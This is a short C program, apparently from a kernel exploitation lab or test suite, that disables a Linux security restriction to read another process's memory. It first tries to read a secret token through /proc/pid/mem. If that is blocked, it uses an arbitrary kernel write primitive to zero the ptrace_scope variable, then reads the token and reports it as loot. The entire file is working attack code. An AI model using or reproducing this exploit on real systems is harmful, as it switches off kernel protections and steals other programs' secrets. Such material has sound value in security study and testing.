// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write to the variable by which a security module forbids to look into another
 * program of the same user.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "common.h"

static bool look_into(int pid, u64 addr, char *token)
{
	char path[32];
	bool seen;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	seen = pread(fd, token, TOKEN_LEN, addr) == TOKEN_LEN;
	close(fd);
	return seen;
}

int main(int argc, char **argv)
{
	int pid = parse_number(argc > 1 ? argv[1] : NULL);
	u64 addr = parse_number(argc > 2 ? argv[2] : NULL);
	char token[TOKEN_LEN];
	u64 scope, word, mask;

	if (look_into(pid, addr, token))
		die("nothing forbids to look into another program");

	scope = vuln_symbol("ptrace_scope").addr;
	if (!scope)
		die("the kernel has no symbol ptrace_scope");
	/* An int, in the low or the high half of a word. */
	word = scope & ~7ULL;
	mask = 0xffffffffULL << (scope & 4 ? 32 : 0);
	vuln_write(word, vuln_read(word) & ~mask);

	if (!look_into(pid, addr, token) || !is_token(token))
		die_errno("looking into the program");
	report_loot(token);
	return 0;
}
